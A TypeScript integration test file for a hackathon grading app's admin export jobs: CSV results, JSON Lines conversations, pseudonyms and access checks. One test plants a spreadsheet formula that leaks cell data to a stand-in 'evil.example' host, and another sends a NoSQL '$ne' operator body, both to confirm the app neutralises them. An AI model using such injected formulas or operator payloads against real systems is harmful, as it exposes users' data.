import { parse } from 'csv-parse/sync';
import { Types } from 'mongoose';
import { anEvaluation } from './support/builders/evaluation.builder';
import { createUser, TestUser } from './support/auth';
import { FullStack, startFullStack, openHackathonVia, submitFinalVia } from './support/full-stack';
import { TestApp } from './support/test-app';
import { until } from './support/wait';

const HEADER =
  'hackathon;rang;candidat;etudiantId;prenom;nom;email;numeroEtudiant;groupId;conversationId;tacheId;tache;soumis;soumisLe;nombreNotes;notes;moyenne;mention;noteEquitable;divergent;commentaires';

describe('admin job export-results', () => {
  let t: TestApp;
  let admin: TestUser;
  let student: TestUser;
  let examiner: TestUser;

  const api = (method: 'get' | 'post' | 'put' | 'patch', path: string, who?: TestUser) => {
    const req = (t.http() as any)[method](`/api/v1${path}`);
    return who ? req.set('Authorization', who.bearer) : req;
  };

  const openHackathon = (overrides: Record<string, unknown> = {}) => openHackathonVia(api, admin, overrides);

  async function submission(who: TestUser, h: { id: string; tacheId: string }) {
    const id = (await api('post', '/conversations', who).send({ hackathonId: h.id, tacheId: h.tacheId }).expect(201))
      .body.conversation.id as string;
    await submitFinalVia(api, who, id, `Prompt ; "final" de ${id}`);
    return id;
  }

  async function runAssignments(hackathonId: string, k: number) {
    const res = await api('post', `/hackathons/${hackathonId}/assignments`, admin)
      .send({ examinersPerSubmission: k })
      .expect(202);
    await until(async () => {
      const job = (await api('get', `/hackathons/${hackathonId}/assignments/jobs/${res.body.jobId}`, admin).expect(200))
        .body;
      if (job.state === 'failed') throw new Error(job.failedReason);
      return job.state === 'completed';
    }, 'attribution');
  }

  async function runExport(hackathonId: string, options: Record<string, unknown> = {}, name = 'export-results') {
    const res = await api('post', `/admin/jobs/${name}`, admin).send({ hackathonId, ...options });
    expect(res.status).toBe(202);
    const jobId = res.body.jobId as string;
    const report = await until(async () => {
      const r = (await api('get', `/admin/jobs/${jobId}`, admin).expect(200)).body;
      return ['completed', 'failed'].includes(r.state) && r;
    }, `export ${jobId}`);
    return { jobId, report };
  }

  const download = (url: string, who?: TestUser) => {
    const req = (t.http() as any)
      .get(url)
      .buffer(true)
      .parse((res: any, cb: any) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      });
    return who ? req.set('Authorization', who.bearer) : req;
  };

  let stack: FullStack;
  beforeAll(async () => {
    stack = await startFullStack();
    ({ t, admin } = stack);
    student = await createUser(t, 'student');
    examiner = await createUser(t, 'examiner');
  });
  afterAll(() => stack?.close());

  it('exports every student and task, the submitted ones with their grades, as a ;-separated UTF-8 CSV with BOM', async () => {
    const h = await openHackathon();
    const task2 = (await api('get', `/hackathons/${h.id}`, admin).expect(200)).body.hackathon.taches[1];
    const [s1, s2, s3] = [
      await createUser(t, 'student'),
      await createUser(t, 'student', { prenom: '=Zoé; "la"' }),
      await createUser(t, 'student'),
    ];
    const A = await submission(s1, h);
    const B = await submission(s2, h);
    const C = await submission(s3, h);
    const [e1, e2] = [await createUser(t, 'examiner'), await createUser(t, 'examiner')];
    await api('put', `/hackathons/${h.id}/examiners`, admin)
      .send({ examinerIds: [e1.id, e2.id] })
      .expect(200);
    await runAssignments(h.id, 2);
    // Fixture: A 4 and 8 (mean 6), B 6 and 9 (mean 7.5), C ungraded.
    for (const [who, conv, note] of [
      [e1, A, 4],
      [e2, A, 8],
      [e1, B, 6],
      [e2, B, 9],
    ] as [TestUser, string, number][]) {
      await api('post', '/evaluations', who)
        .send(anEvaluation(conv).withNote(note).withComment(`Commentaire noté ${note} sur 10`).build())
        .expect(201);
    }
    const board = (await api('get', `/hackathons/${h.id}/leaderboard`, admin).expect(200)).body;
    const byConv = Object.fromEntries(board.items.map((i: any) => [i.conversationId, i]));

    const { jobId, report } = await runExport(h.id);
    expect(report).toEqual(
      expect.objectContaining({
        id: jobId,
        name: 'export-results',
        state: 'completed',
        progress: 100,
        failedReason: null,
        requestedBy: admin.id,
      }),
    );
    const exportId = report.result.exportId;
    expect(report.result).toEqual({
      hackathonId: h.id,
      exportId: expect.stringMatching(/^[0-9a-f]{24}$/),
      rows: 6,
      etudiants: 3,
      soumissions: 3,
      pseudonymes: false,
      filename: `resultats-${h.id}.csv`,
      downloadUrl: `/api/v1/admin/exports/${exportId}`,
    });
    const stored = await t.connection.collection('exports').findOne({ _id: new Types.ObjectId(exportId) });
    expect(stored).toEqual(expect.objectContaining({ hackathonId: h.id, jobId, rows: 6, createdAt: expect.any(Date) }));

    const res = await download(report.result.downloadUrl, admin);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="resultats-${h.id}.csv"`);
    const bytes: Buffer = res.body;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    const lines = text.split('\r\n');
    expect(lines.pop()).toBe('');
    expect(lines[0]).toBe(HEADER);
    const row = (
      conv: string,
      u: TestUser,
      prenom: string,
      nom: string,
      rank: string,
      n: string,
      notes: string,
      mean: string,
    ) =>
      [
        h.nom,
        rank,
        byConv[conv].candidat,
        u.id,
        prenom,
        nom,
        u.email,
        '',
        '',
        conv,
        h.tacheId,
        h.tacheTitre,
        'oui',
        byConv[conv].soumisLe,
        n,
        notes,
        mean,
        byConv[conv].label ?? '',
        byConv[conv].fairNote === null ? '' : String(byConv[conv].fairNote).replace('.', ','),
        'oui',
        notes
          .split(' | ')
          .filter(Boolean)
          .map((x) => `Commentaire noté ${x} sur 10`)
          .join(' | '),
      ].join(';');
    // The second task, not submitted: the student's row says so, with no grade.
    const notSubmitted = (conv: string, u: TestUser, prenom: string) =>
      [
        h.nom,
        '',
        byConv[conv].candidat,
        u.id,
        prenom,
        byConv[conv].student.nom,
        u.email,
        '',
        '',
        '',
        task2.id,
        task2.titre,
        'non',
        ...Array(8).fill(''),
      ].join(';');
    const s2Nom = byConv[B].student.nom;
    // By name (Nom<n> in creation order), each student's tasks in the hackathon's order.
    expect(lines.slice(1)).toEqual([
      row(A, s1, 'Prénom', byConv[A].student.nom, '2', '2', '4 | 8', '6'),
      notSubmitted(A, s1, 'Prénom'),
      row(B, s2, `"'=Zoé; ""la"""`, s2Nom, '1', '2', '6 | 9', '7,5'),
      notSubmitted(B, s2, `"'=Zoé; ""la"""`),
      row(C, s3, 'Prénom', byConv[C].student.nom, '', '0', '', '').replace(/;oui;$/, ';non;'),
      notSubmitted(C, s3, 'Prénom'),
    ]);
    expect(byConv[A].label).toEqual(expect.any(String));
  });

  it('names the students for the admin by default, anonymous hackathons too; pseudonyms only with pseudonymes: true', async () => {
    const h = await openHackathon({ anonymatActif: true });
    const s = await createUser(t, 'student', { prenom: 'Inès', nom: 'Anonyme' });
    const conv = await submission(s, h);
    const named = await runExport(h.id);
    expect(named.report.result).toEqual(expect.objectContaining({ rows: 2, pseudonymes: false }));
    const namedText = (await download(named.report.result.downloadUrl, admin).expect(200)).body.toString('utf8');
    const [header, row] = parse(namedText, { bom: true, delimiter: ';' }) as string[][];
    const cell = (name: string) => row[header.indexOf(name)];
    expect([cell('etudiantId'), cell('prenom'), cell('nom'), cell('email')]).toEqual([
      s.id,
      'Inès',
      'Anonyme',
      s.email,
    ]);
    expect(cell('candidat')).toBe('Candidat 1');

    const hidden = await runExport(h.id, { pseudonymes: true });
    expect(hidden.report.result).toEqual(expect.objectContaining({ rows: 2, pseudonymes: true }));
    const text = (await download(hidden.report.result.downloadUrl, admin).expect(200)).body.toString('utf8');
    for (const secret of [s.email, s.id, 'Inès', 'Anonyme']) expect(text).not.toContain(secret);
    const [h2, r2] = parse(text, { bom: true, delimiter: ';' }) as string[][];
    expect(r2[h2.indexOf('candidat')]).toBe('Candidat 1');
    expect(r2[h2.indexOf('conversationId')]).toBe(conv);
    expect(r2[h2.indexOf('hackathon')]).toBe(h.nom);
  });

  it('export-conversations: every conversation with its messages as JSON Lines, names by default, pseudonyms on request', async () => {
    const h = await openHackathon();
    const [s1, s2] = [
      await createUser(t, 'student', { nom: 'Premier' }),
      await createUser(t, 'student', { nom: 'Second' }),
    ];
    const submitted = await submission(s1, h);
    const open = (await api('post', '/conversations', s2).send({ hackathonId: h.id, tacheId: h.tacheId }).expect(201))
      .body.conversation.id;
    const { report } = await runExport(h.id, {}, 'export-conversations');
    expect(report.state).toBe('completed');
    expect(report.result).toEqual(
      expect.objectContaining({ rows: 2, pseudonymes: false, filename: `conversations-${h.id}.jsonl` }),
    );
    const res = await download(report.result.downloadUrl, admin).expect(200);
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const lines = res.body
      .toString('utf8')
      .trimEnd()
      .split('\n')
      .map((l: string) => JSON.parse(l));
    expect(lines.map((l: any) => l.conversationId).sort()).toEqual([submitted, open].sort());
    const first = lines.find((l: any) => l.conversationId === submitted);
    expect(first).toEqual(
      expect.objectContaining({
        hackathon: { id: h.id, nom: h.nom },
        tache: { id: h.tacheId, titre: h.tacheTitre },
        etudiant: expect.objectContaining({ id: s1.id, nom: 'Premier', email: s1.email }),
        versionFinale: expect.objectContaining({ promptFinal: `Prompt ; "final" de ${submitted}` }),
      }),
    );
    expect(first.messages.map((m: any) => m.role)).toEqual(['student', 'assistant']);
    expect(lines.find((l: any) => l.conversationId === open).messages).toEqual([]);

    const hidden = await runExport(h.id, { pseudonymes: true }, 'export-conversations');
    const text = (await download(hidden.report.result.downloadUrl, admin).expect(200)).body.toString('utf8');
    for (const secret of [s1.email, s1.id, s2.email, s2.id, 'Premier', 'Second']) expect(text).not.toContain(secret);
    const rows = text
      .trimEnd()
      .split('\n')
      .map((l: string) => JSON.parse(l));
    expect(rows.map((r: any) => r.etudiant.candidat).sort()).toEqual(['Candidat 1', 'Candidat 2']);
  });

  it('export-conversations: the messages as the API shows them, a stopped answer marked interrompu', async () => {
    const h = await openHackathon();
    const s = await createUser(t, 'student');
    const id = (await api('post', '/conversations', s).send({ hackathonId: h.id, tacheId: h.tacheId }).expect(201)).body
      .conversation.id as string;
    stack.llm.setLatency({ chunkDelayMs: 150 });
    try {
      const prompt = `Une longue réponse [fake-llm:tokens=1500] ${id}`;
      await api('post', `/conversations/${id}/messages`, s).send({ content: prompt }).expect(202);
      await until(async () => stack.llm.requests.some((r) => r.lastUserMessage === prompt), 'l’appel au LLM');
      await api('post', `/conversations/${id}/stop`, s).expect(200);
      await until(async () => stack.llm.requests.find((r) => r.lastUserMessage === prompt)?.aborted, 'l’arrêt');
    } finally {
      stack.llm.setLatency({ chunkDelayMs: 0 });
    }
    const shown = (await api('get', `/conversations/${id}?limit=200`, s).expect(200)).body.conversation.messages;
    expect(shown[1]).toEqual(expect.objectContaining({ role: 'assistant', interrompu: true }));

    const { report } = await runExport(h.id, {}, 'export-conversations');
    expect(report.state).toBe('completed');
    const lines = (await download(report.result.downloadUrl, admin).expect(200)).body
      .toString('utf8')
      .trimEnd()
      .split('\n')
      .map((l: string) => JSON.parse(l));
    expect(lines.find((l: any) => l.conversationId === id).messages).toEqual(shown);
  });

  it('writes what students typed as inert text: cells starting with =, +, -, @ are prefixed with a quote', async () => {
    const h = await openHackathon();
    const attacker = await createUser(t, 'student');
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1;"Voir la note")';
    // What a student controls in the file: their own names and the group of their conversation.
    await api('patch', '/users/me', attacker).send({ prenom: '@SUM(1+1)', nom: formula }).expect(200);
    const conv = (
      await api('post', '/conversations', attacker)
        .send({ hackathonId: h.id, tacheId: h.tacheId, groupId: '-2+3' })
        .expect(201)
    ).body.conversation.id as string;
    await submitFinalVia(api, attacker, conv, formula);
    const e = await createUser(t, 'examiner');
    await api('put', `/hackathons/${h.id}/examiners`, admin)
      .send({ examinerIds: [e.id] })
      .expect(200);
    await runAssignments(h.id, 1);
    await api('post', '/evaluations', e).send(anEvaluation(conv).withNote(7).build()).expect(201);

    const { report } = await runExport(h.id);
    expect(report.state).toBe('completed');
    const text: string = (await download(report.result.downloadUrl, admin).expect(200)).body.toString('utf8');
    const [header, ...rows] = parse(text, { bom: true, delimiter: ';' }) as string[][];
    // The submitted task, then the other task's row (not submitted).
    expect(rows.map((r) => r[header.indexOf('soumis')])).toEqual(['oui', 'non']);
    const row = rows[0];
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('prenom')).toBe("'@SUM(1+1)");
    expect(cell('nom')).toBe(`'${formula}`);
    expect(cell('groupId')).toBe("'-2+3");
    expect(cell('conversationId')).toBe(conv);
    expect(cell('moyenne')).toBe('7');
    // No cell of the file starts as a formula would.
    for (const c of rows.flat()) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).not.toMatch(/(^|[;\n"])=HYPERLINK/);
  });

  it('exports an empty file (header only) for a hackathon without submissions', async () => {
    const h = await openHackathon();
    const { report } = await runExport(h.id);
    expect(report.result.rows).toBe(0);
    const text = (await download(report.result.downloadUrl, admin).expect(200)).body.toString('utf8');
    expect(text).toBe(`\uFEFF${HEADER}\r\n`);
  });

  it('fails for good on an unknown hackathon: HACKATHON_NOT_FOUND, no export stored', async () => {
    const before = await t.connection.collection('exports').countDocuments();
    const { report } = await runExport(new Types.ObjectId().toHexString());
    expect(report.state).toBe('failed');
    expect(report.attempts).toBe(1);
    expect(report.failedReason).toMatch(/^HACKATHON_NOT_FOUND: /);
    expect(report.result).toBeNull();
    expect(await t.connection.collection('exports').countDocuments()).toBe(before);
  });

  it.each([
    [{}],
    [{ hackathonId: 'nope' }],
    [{ hackathonId: { $ne: null } }],
    [{ hackathonId: new Types.ObjectId().toHexString(), extra: 1 }],
  ])('refuses a bad body %p: 400 VALIDATION_FAILED', async (body) => {
    const res = await api('post', '/admin/jobs/export-results', admin).send(body);
    expect(res.status).toBe(400);
    expect(res.body.code).toBe('VALIDATION_FAILED');
  });

  it('download: 403 for a student or an examiner, 401 without a token, 404 unknown, 400 malformed id', async () => {
    const h = await openHackathon();
    const { report } = await runExport(h.id);
    for (const who of [student, examiner]) {
      const res = await api('get', report.result.downloadUrl.replace('/api/v1', ''), who);
      expect(res.status).toBe(403);
      expect(res.body.code).toBe('FORBIDDEN');
    }
    expect((await api('get', report.result.downloadUrl.replace('/api/v1', ''))).status).toBe(401);
    const missing = await api('get', `/admin/exports/${new Types.ObjectId().toHexString()}`, admin);
    expect(missing.status).toBe(404);
    expect(missing.body.code).toBe('ADMIN_EXPORT_NOT_FOUND');
    const bad = await api('get', '/admin/exports/not-an-id', admin);
    expect(bad.status).toBe(400);
    expect(bad.body.code).toBe('INVALID_ID');
  });
});
